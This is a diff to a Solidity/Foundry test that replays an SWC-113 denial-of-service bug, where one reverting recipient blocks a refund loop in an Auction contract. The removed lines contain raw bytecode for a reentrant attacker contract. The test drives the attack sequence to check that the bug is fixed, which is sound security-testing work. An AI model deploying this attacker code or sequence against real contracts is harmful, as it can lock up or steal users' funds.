@@ -16,10 +16,8 @@ contract Foresight_Auction_SWC_113_Test is Test {
         vm.roll(blockNumber);
         vm.warp(timestamp);
         vm.deal(DEPLOYER, 1e6 ether);
+        vm.deal(0x0000000000000000000000000000000000030000, 1e6 ether); // user 3
         vm.deal(0x0000000000000000000000000000000000010000, 1e6 ether); // user 1
-        vm.deal(0x0000000000000000000000000000000a77aC0000, 1e6 ether); // operates the attacker contracts
-        vm.etch(0x0000000000000000000000000000000a77Ac0001, hex"3332146100b85761c3505a106100b6576000546100b6576001546001016401000000000280543314156100b65760016000558064030000000003805433141561007e57806001015460005b81811015610067578060209004600301830154815260200161004a565b5060006000826000856002015486545af150505060005b50806001015460005b818110156100a45780602090046003018301548152602001610087565b5060006000826000600086545af15050505b005b60016001549003806001556001016401000000000260003581553481600201556020360380602060003780826001015560005b8181101561010857805181602090046003018401556020016100eb565b50600060005560006000826000346000355af13d600060003e61012a573d6000fd5b3d6000f3"); // attacker contract (reentrant)
-        vm.deal(0x0000000000000000000000000000000a77Ac0001, 1e6 ether); // its own ether, to re-enter with
         vm.prank(DEPLOYER, DEPLOYER);
         Auction auction = new Auction();
         require(address(auction) == 0xD16d38E314dadd189F03AD9012E0742fD66ab1Eb, "deployed elsewhere than in the campaign");
@@ -29,31 +27,31 @@ contract Foresight_Auction_SWC_113_Test is Test {
         bytes memory ret;
         bool bug = true; // every condition of the bug so far
 
-        // 1. from user 1: Auction.bid() {value: 1}
+        // 1. from user 3: Auction.bid() {value: 1}
+        vm.prank(0x0000000000000000000000000000000000030000, 0x0000000000000000000000000000000000030000);
+        (ok, ret) = address(auction).call{value: 1}(abi.encodeCall(auction.bid, ()));
+
+        // 2. from user 1: Auction.bid() {value: 1}
         vm.prank(0x0000000000000000000000000000000000010000, 0x0000000000000000000000000000000000010000);
         (ok, ret) = address(auction).call{value: 1}(abi.encodeCall(auction.bid, ()));
 
-        // 2. from attacker contract (reentrant): Auction.bid() {value: 1}
-        vm.prank(0x0000000000000000000000000000000a77aC0000, 0x0000000000000000000000000000000a77aC0000);
-        (ok, ret) = address(0x0000000000000000000000000000000a77Ac0001).call{value: 1}(hex"000000000000000000000000d16d38e314dadd189f03ad9012e0742fd66ab1eb1998aeef");
-
-        // 3. from user 1: Auction.refundAll()
+        // 3. from user 3: Auction.refundAll()
         // The ether of the others the loop pays, before it.
-        uint256 paid0 = address(0x0000000000000000000000000000000000010000).balance;
+        uint256 paid0 = address(0x0000000000000000000000000000000000030000).balance;
         // This recipient rejects payments, as the oracle ran the call.
-        vm.etch(0x0000000000000000000000000000000a77Ac0001, hex"60006000fd");
-        vm.prank(0x0000000000000000000000000000000000010000, 0x0000000000000000000000000000000000010000);
+        vm.etch(0x0000000000000000000000000000000000010000, hex"60006000fd");
+        vm.prank(0x0000000000000000000000000000000000030000, 0x0000000000000000000000000000000000030000);
         (ok, ret) = address(auction).call(abi.encodeCall(auction.refundAll, ()));
 
-        // denial of service: one failing recipient reverts a loop of payments: run again with attacker contract (reentrant) rejecting payments, transaction 3 reverted inside the loop at its payment: one recipient blocks every other's
+        // denial of service: one failing recipient reverts a loop of payments: run again with user 1 rejecting payments, transaction 3 reverted inside the loop at its payment: one recipient blocks every other's
         bug = bug && !(ok); // expected one failing recipient to revert the loop
         // The harm: the failing recipient is what keeps the others unpaid.
         // Made to accept (its code removed), the same call pays them.
-        vm.etch(0x0000000000000000000000000000000a77Ac0001, hex"");
-        vm.prank(0x0000000000000000000000000000000000010000, 0x0000000000000000000000000000000000010000);
+        vm.etch(0x0000000000000000000000000000000000010000, hex"");
+        vm.prank(0x0000000000000000000000000000000000030000, 0x0000000000000000000000000000000000030000);
         (ok, ret) = address(auction).call(abi.encodeCall(auction.refundAll, ()));
         bool paid = false;
-        if (address(0x0000000000000000000000000000000000010000).balance > paid0) paid = true;
+        if (address(0x0000000000000000000000000000000000030000).balance > paid0) paid = true;
         bug = bug && (paid); // expected the loop to pay another recipient once the failing one accepts
         assertFalse(bug, "SWC-113 is still there: the replayed sequence still fails this way");
     }
